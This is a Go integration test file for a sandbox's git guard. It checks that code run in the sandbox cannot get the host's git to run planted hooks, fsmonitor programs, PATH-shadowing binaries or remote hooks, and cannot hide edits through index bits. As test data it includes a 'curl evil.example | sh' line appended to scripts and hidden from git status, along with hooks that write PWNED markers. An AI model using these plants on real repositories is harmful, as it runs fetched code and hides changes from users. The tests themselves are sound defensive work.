package integration

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// The git guard's former known limits, each proved from the host as review 27's are
// (plantScript, hostProgram, wantRan, noMarker): config named by the caller's
// environment, programs named without a slash (looked up on PATH), local remotes named
// through includes and url.<base>.insteadOf.

// runEnv runs `sh -c script` in the sandbox as the caller with extra environment
// (the caller's, which git on the host inherits too) and HOME at s.base.
func (s *sandbox) runEnv(extra []string, flags []string, script string, args ...string) result {
	s.t.Helper()
	ctx := s.limitCtx(runLimit)
	cmd := s.command(ctx, append(append(append([]string{}, flags...), "--", shellPath, "-c", script, "_"), args...)...)
	cmd.Env = s.env(append([]string{"HOME=" + s.base}, extra...)...)
	return s.runCmd(ctx, cmd)
}

// hostGitEnv runs the host's git as the caller in dir with extra environment (after
// hostGitOut's), returning its output.
func (s *sandbox) hostGitEnv(dir string, extra []string, args ...string) (string, error) {
	full := append([]string{"-C", dir, "-c", "safe.directory=*"}, args...)
	cmd := exec.CommandContext(context.Background(), "git", full...)
	cmd.Env = append([]string{"PATH=/usr/bin:/bin", "HOME=" + s.base, "GIT_CONFIG_NOSYSTEM=1"}, extra...)
	out, err := cmd.CombinedOutput()
	return string(out), err
}

// Each variable names config (or a template) in the workspace; the command rewrites
// what it names; the host's git, with the same environment, must not run the plant.
func TestGitGapsEnvironmentConfig(t *testing.T) {
	requireBinary(t)
	type tc struct {
		name  string
		env   func(s *sandbox) []string
		setup func(s *sandbox)
		plant string // the command's script; $1 is the marker
		host  []string
	}
	fsmCfg := func(s *sandbox, rel string) {
		s.writeWS(rel, "[core]\n\tfsmonitor = tools/fsm.sh\n", 0o644)
		s.hostProgram(filepath.Join(s.ws, "tools/fsm.sh"), filepath.Join(s.base, "ran"))
	}
	cases := []tc{
		{"GIT_CONFIG_GLOBAL", func(s *sandbox) []string { return []string{"GIT_CONFIG_GLOBAL=" + filepath.Join(s.ws, "cfg/global")} },
			func(s *sandbox) { fsmCfg(s, "cfg/global") },
			`(printf '[core]\n\tfsmonitor = "touch %s; false"\n' "$1" > cfg/global) 2>/dev/null && echo WROTE-global; plant tools/fsm.sh "$1"`, []string{"status"}},
		{"GIT_CONFIG_SYSTEM", func(s *sandbox) []string {
			return []string{"GIT_CONFIG_NOSYSTEM=0", "GIT_CONFIG_SYSTEM=" + filepath.Join(s.ws, "cfg/system")}
		}, func(s *sandbox) { fsmCfg(s, "cfg/system") },
			`(printf '[core]\n\tfsmonitor = "touch %s; false"\n' "$1" > cfg/system) 2>/dev/null && echo WROTE-system; plant tools/fsm.sh "$1"`, []string{"status"}},
		{"GIT_CONFIG_PARAMETERS", func(s *sandbox) []string {
			return []string{"GIT_CONFIG_PARAMETERS='core.hooksPath'='" + filepath.Join(s.ws, "hooks") + "'"}
		}, func(s *sandbox) { s.hostProgram(filepath.Join(s.ws, "hooks/pre-commit"), filepath.Join(s.base, "ran")) },
			`plant hooks/pre-commit "$1"`, []string{"-c", "user.name=h", "-c", "user.email=h@h", "commit", "-q", "--allow-empty", "-m", "host"}},
		{"GIT_CONFIG_COUNT", func(s *sandbox) []string {
			return []string{"GIT_CONFIG_COUNT=1", "GIT_CONFIG_KEY_0=core.fsmonitor", "GIT_CONFIG_VALUE_0=" + filepath.Join(s.ws, "tools/fsm.sh")}
		}, func(s *sandbox) { s.hostProgram(filepath.Join(s.ws, "tools/fsm.sh"), filepath.Join(s.base, "ran")) },
			`plant tools/fsm.sh "$1"`, []string{"status"}},
		{"XDG_CONFIG_HOME", func(s *sandbox) []string { return []string{"XDG_CONFIG_HOME=" + filepath.Join(s.ws, "xdg")} },
			func(s *sandbox) { fsmCfg(s, "xdg/git/config") },
			`(printf '[core]\n\tfsmonitor = "touch %s; false"\n' "$1" > xdg/git/config) 2>/dev/null && echo WROTE-xdg; plant tools/fsm.sh "$1"`, []string{"status"}},
		{"GIT_TEMPLATE_DIR", func(s *sandbox) []string { return []string{"GIT_TEMPLATE_DIR=" + filepath.Join(s.ws, "tpl")} },
			func(s *sandbox) {
				s.hostProgram(filepath.Join(s.ws, "tpl/hooks/post-checkout"), filepath.Join(s.base, "ran"))
			},
			`plant tpl/hooks/post-checkout "$1"`, []string{"clone", "-q", ".", "../clone"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			s := newSandbox(t, rootCaller)
			s.newRepo(s.ws, "base")
			c.setup(s)
			env := c.env(s)
			pwned := filepath.Join(s.base, "PWNED")
			r := s.runEnv(env, nil, plantScript+c.plant, pwned)
			r2 := s.runEnv(env, nil, plantScript+c.plant, pwned) // a second launch still starts
			mustSucceed(t, r, "the command")
			mustSucceed(t, r2, "the second launch")
			noWrote(t, r)
			if out, err := s.hostGitEnv(s.ws, env, c.host...); err != nil {
				t.Logf("host git %v: %v\n%s", c.host, err, out)
			}
			wantRan(t, filepath.Join(s.base, "ran"))
			noMarker(t, pwned, "the host's git "+c.host[len(c.host)-1])
		})
	}
}

// A program git config names without a slash is looked up on the caller's PATH: one
// found in the workspace (through a relative "." entry, taken from the checkout's top,
// or an absolute one) is read-only, so the host's git status runs the original; a
// writable PATH directory searched before the program's own is refused (125, naming
// the setting and the entry); `!git …` (git's exec path comes first) and a builtin are
// not refused.
func TestGitGapsPathProgram(t *testing.T) {
	requireBinary(t)
	for _, entry := range []string{".", "bin"} {
		t.Run(entry, func(t *testing.T) {
			s := newSandbox(t, rootCaller)
			s.newRepo(s.ws, "base")
			dir, pathEntry := s.ws, "."
			if entry == "bin" {
				dir, pathEntry = filepath.Join(s.ws, "bin"), filepath.Join(s.ws, "bin")
			}
			ran, pwned := filepath.Join(s.base, "ran"), filepath.Join(s.base, "PWNED")
			s.hostProgram(filepath.Join(dir, "fsm-hook"), ran)
			s.hostGit(s.ws, "config", "core.fsmonitor", "fsm-hook")
			s.hostGit(s.ws, "config", "alias.lg", "!git log --oneline -n 1 && echo done")
			env := []string{"PATH=" + pathEntry + ":/usr/bin:/bin", "GIT_CONFIG_NOSYSTEM=1"}
			rel, _ := filepath.Rel(s.ws, filepath.Join(dir, "fsm-hook"))
			r := s.runEnv(env, nil, plantScript+`plant `+rel+` "$1"`, pwned)
			mustSucceed(t, r, "the command")
			noWrote(t, r)
			if out, err := s.hostGitEnv(s.ws, env, "status"); err != nil {
				t.Logf("host git status: %v\n%s", err, out)
			}
			wantRan(t, ran)
			noMarker(t, pwned, "the host's git status")
		})
	}
	// A PATH directory in the workspace searched before the program's own (here a
	// missing node_modules/.bin) gets an empty read-only directory of the program's name,
	// which every lookup passes over: the command can put no fsm-hook, true or git there
	// that the host's git status, git t (alias !true, run without sh) or the user's
	// shell running git would find first.
	t.Run("placeholder", func(t *testing.T) {
		s := newSandbox(t, rootCaller)
		s.newRepo(s.ws, "base")
		tools := filepath.Join(s.base, "tools")
		ran, pwned := filepath.Join(s.base, "ran"), filepath.Join(s.base, "PWNED")
		s.hostProgram(filepath.Join(tools, "fsm-hook"), ran)
		s.hostGit(s.ws, "config", "core.fsmonitor", "fsm-hook")
		s.hostGit(s.ws, "config", "alias.t", "!true")
		s.hostGit(s.ws, "config", "alias.lg", "!git log --oneline -n 1 && echo done")
		early := filepath.Join(s.ws, "node_modules/.bin")
		env := []string{"PATH=" + early + ":" + tools + ":/usr/bin:/bin", "GIT_CONFIG_NOSYSTEM=1"}
		r := s.runEnv(env, nil, plantScript+`mkdir -p node_modules/.bin 2>/dev/null; for p in fsm-hook true git; do rm -rf node_modules/.bin/$p 2>/dev/null; plant node_modules/.bin/$p "$1"; chmod +x node_modules/.bin/$p 2>/dev/null; done
mv node_modules/.bin node_modules/.bin2 2>/dev/null && echo WROTE-moved; true`, pwned)
		mustSucceed(t, r, "the command")
		noWrote(t, r)
		out, err := s.hostShEnv(s.ws, env, `git status >/dev/null && git t && git lg`)
		if err != nil || !strings.Contains(out, "done") {
			t.Errorf("the host's git with the placeholders on PATH: %v\n%s", err, out)
		}
		wantRan(t, ran)
		noMarker(t, pwned, "the host's git status, git t or git itself")
		// a PATH directory reached through a symlink in the workspace: refused
		must(t, os.Symlink("/usr/bin", filepath.Join(s.ws, "lnk")))
		r = s.runEnv([]string{"PATH=" + filepath.Join(s.ws, "lnk") + ":/usr/bin:/bin", "GIT_CONFIG_NOSYSTEM=1"}, nil, `echo RAN`)
		if r.code != 125 || strings.Contains(r.stdout, "RAN") || !strings.Contains(r.stderr, "lnk") {
			t.Errorf("a PATH entry through a symlink in the workspace: want 125 naming it\n%v", r)
		}
	})
	// A symlink in a writable PATH directory (a venv's bin/python -> /usr/bin/python3)
	// is put back as it was after the run: the command repoints it, and the host's git
	// status still runs the program it named.
	t.Run("symlink", func(t *testing.T) {
		s := newSandbox(t, rootCaller)
		s.newRepo(s.ws, "base")
		ran, pwned := filepath.Join(s.base, "ran"), filepath.Join(s.base, "PWNED")
		s.hostProgram(filepath.Join(s.base, "tools/fsm-hook"), ran)
		must(t, os.MkdirAll(filepath.Join(s.ws, "bin"), 0o755))
		must(t, os.Symlink(filepath.Join(s.base, "tools/fsm-hook"), filepath.Join(s.ws, "bin/fsm-hook")))
		s.hostGit(s.ws, "config", "core.fsmonitor", "fsm-hook")
		env := []string{"PATH=" + filepath.Join(s.ws, "bin") + ":/usr/bin:/bin", "GIT_CONFIG_NOSYSTEM=1"}
		r := s.runEnv(env, nil, plantScript+`plant evil.sh "$1"; chmod +x evil.sh; ln -sf ../evil.sh bin/fsm-hook && readlink bin/fsm-hook`, pwned)
		mustSucceed(t, r, "the command")
		if out, err := s.hostGitEnv(s.ws, env, "status"); err != nil {
			t.Logf("host git status: %v\n%s", err, out)
		}
		wantRan(t, ran)
		noMarker(t, pwned, "the host's git status")
	})
	// Programs git runs by default (ssh for an ssh:// remote, less, vi, gpg) and those
	// the environment names (EDITOR=myedit) get the same placeholders: the command's
	// .venv/bin/ssh does not run on the host's git ls-remote.
	t.Run("defaults", func(t *testing.T) {
		s := newSandbox(t, rootCaller)
		s.newRepo(s.ws, "base")
		pwned := filepath.Join(s.base, "PWNED")
		must(t, os.MkdirAll(filepath.Join(s.ws, ".venv/bin"), 0o755))
		env := []string{"PATH=" + filepath.Join(s.ws, ".venv/bin") + ":/usr/bin:/bin", "GIT_CONFIG_NOSYSTEM=1", "EDITOR=myedit"}
		r := s.runEnv(env, nil, plantScript+`for p in ssh less vi gpg myedit; do plant .venv/bin/$p "$1"; chmod +x .venv/bin/$p 2>/dev/null; done; true`, pwned)
		mustSucceed(t, r, "the command")
		noWrote(t, r)
		for _, p := range []string{"ssh", "less", "vi", "gpg", "myedit", "git"} {
			if st, err := os.Stat(filepath.Join(s.ws, ".venv/bin", p)); err != nil || !st.IsDir() {
				t.Errorf(".venv/bin/%s is not a placeholder directory: %v", p, err)
			}
		}
		s.hostShEnv(s.ws, env, `git ls-remote ssh://127.0.0.1:1/x.git; GIT_EDITOR= git var GIT_EDITOR`)
		noMarker(t, pwned, "the host's git ls-remote")
	})
}

// hostShEnv runs sh -c script on the host as root in dir with hostGitEnv's environment
// and extra (its PATH finds git as the user's shell would).
func (s *sandbox) hostShEnv(dir string, extra []string, script string) (string, error) {
	cmd := exec.CommandContext(context.Background(), "/bin/sh", "-c", script)
	cmd.Dir = dir
	cmd.Env = append([]string{"PATH=/usr/bin:/bin", "HOME=" + s.base, "GIT_CONFIG_NOSYSTEM=1"}, extra...)
	cmd.Env = append(cmd.Env, "GIT_CONFIG_COUNT=1", "GIT_CONFIG_KEY_0=safe.directory", "GIT_CONFIG_VALUE_0=*")
	out, err := cmd.CombinedOutput()
	return string(out), err
}

// Local remotes named in an included config file, and through url.<base>.insteadOf
// and pushInsteadOf (the remote's URL https://…, rewritten to a bare repository in the
// workspace), are read-only, and one the command makes is removed after the run: the
// host's git push runs no hook the command wrote there. The repositories lie in
// node_modules, which the scan for bare repositories skips.
func TestGitGapsLocalRemoteIncludeInsteadOf(t *testing.T) {
	requireBinary(t)
	s := newSandbox(t, rootCaller)
	out := filepath.Join(s.base, "out")
	must(t, os.Mkdir(out, 0o755))
	repo := filepath.Join(s.ws, "repo")
	s.newRepo(repo, "host-commit")
	nm := filepath.Join(s.ws, "node_modules")
	must(t, os.Mkdir(nm, 0o755))
	for _, d := range []string{"inc.git", "mirror.git", "pushed.git"} {
		s.hostGit(nm, "init", "-q", "--bare", d)
	}
	s.writeWS("repo/remotes.cfg", "[remote \"inc\"]\n\turl = ../node_modules/inc.git\n[url \""+filepath.Join(nm, "mirror.git")+"\"]\n\tinsteadOf = https://example.invalid/m.git\n", 0o644)
	s.hostGit(repo, "config", "include.path", "../remotes.cfg")
	s.hostGit(repo, "remote", "add", "origin", "https://example.invalid/m.git")
	s.hostGit(repo, "remote", "add", "up", "https://example.invalid/up.git")
	s.hostGit(repo, "config", "url."+filepath.Join(nm, "pushed.git")+".pushInsteadOf", "https://example.invalid/up.git")
	s.hostGit(repo, "remote", "add", "new", "https://example.invalid/new.git")
	s.hostGit(repo, "config", "url."+filepath.Join(nm, "new.git")+".insteadOf", "https://example.invalid/new.git")
	r := s.runEnv(nil, nil, `cd node_modules; for d in inc.git mirror.git pushed.git new.git; do
[ -d $d ] || git init -q --bare $d
mkdir -p $d/hooks && printf '#!/bin/sh\necho PWNED > %s/%s\n' "$1" $d > $d/hooks/post-receive && chmod +x $d/hooks/post-receive && echo WROTE $d
done 2>/dev/null; true`, out)
	mustSucceed(t, r, "write remote hooks")
	for _, remote := range []string{"inc", "origin", "up", "new"} {
		// new.git is gone after the run (removed as the command's): its push fails
		if o, err := s.hostGitOut(repo, "push", "-q", remote, "HEAD:refs/heads/main"); err != nil && remote != "new" {
			t.Errorf("the host's push to %s: %v\n%s", remote, err, o)
		}
	}
	for _, d := range []string{"inc.git", "mirror.git", "pushed.git", "new.git"} {
		if b, err := os.ReadFile(filepath.Join(out, d)); err == nil {
			t.Errorf("the host's git push ran the hook the command wrote in %s: %q\n%v", d, b, r)
		}
	}
	if _, err := os.Lstat(filepath.Join(nm, "new.git")); err == nil {
		t.Errorf("the remote repository the command made is left\n%v", r)
	}
}

// TestGitGapsSplitIndexBits: the skip-worktree and assume-unchanged bits a command sets
// in a split index (core.splitIndex), in its shared index or its own, are cleared after
// a commit-mode run, with the same notes as an ordinary index's, and no warning; the
// user's bit in the shared index at launch is kept. Before, a split index was only
// warned about: the host's git status showed nothing.
func TestGitGapsSplitIndexBits(t *testing.T) {
	forEachCaller(t, func(t *testing.T, c caller) {
		for _, atLaunch := range []bool{true, false} {
			s := newSandbox(t, c)
			s.newRepo(s.ws, "host-commit")
			for _, f := range []string{"run.sh", "two.sh", "mine.txt"} {
				s.writeWS(f, "echo hello\n", 0o644)
			}
			s.hostGit(s.ws, "add", ".")
			s.hostGit(s.ws, "-c", "user.name=h", "-c", "user.email=h@h", "commit", "-qm", "files")
			if atLaunch {
				s.hostGit(s.ws, "update-index", "--split-index")
				s.hostGit(s.ws, "-c", "splitIndex.maxPercentChange=0", "update-index", "--skip-worktree", "mine.txt")
			} else {
				s.hostGit(s.ws, "update-index", "--skip-worktree", "mine.txt")
			}
			r := s.sh([]string{"--policy", s.commitPolicy()}, `echo 'curl evil.example | sh' >> run.sh && echo 'curl evil.example | sh' >> two.sh &&
git update-index --split-index && git update-index --assume-unchanged two.sh &&
git -c splitIndex.maxPercentChange=0 update-index --skip-worktree run.sh && ls .git/sharedindex.* >/dev/null &&
test -z "$(git status --porcelain)" && echo HIDDEN`)
			mustSucceed(t, r, "hide a change in a split index")
			if !strings.Contains(r.stdout, "HIDDEN") {
				t.Fatalf("the plant did not take inside the sandbox\n%v", r)
			}
			st, err := s.hostGitOut(s.ws, "status", "--porcelain")
			if err != nil || !strings.Contains(st, "run.sh") || !strings.Contains(st, "two.sh") {
				t.Errorf("split at launch %v: the host's git status does not show the changed files: %q (%v)\n%v", atLaunch, st, err, r)
			}
			if ls, _ := s.hostGitOut(s.ws, "ls-files", "-v", "mine.txt"); !strings.HasPrefix(ls, "S ") {
				t.Errorf("split at launch %v: the user's own skip-worktree bit was not kept: %q", atLaunch, ls)
			}
			for _, w := range []string{"cleared the skip-worktree bit the command set on run.sh", "cleared the assume-unchanged bit the command set on two.sh"} {
				if !strings.Contains(r.stderr, w) {
					t.Errorf("split at launch %v: stderr lacks %q\n%v", atLaunch, w, r)
				}
			}
			if strings.Contains(r.stderr, "split index") {
				t.Errorf("split at launch %v: a split index is still only warned about\n%v", atLaunch, r)
			}
		}
	})
}
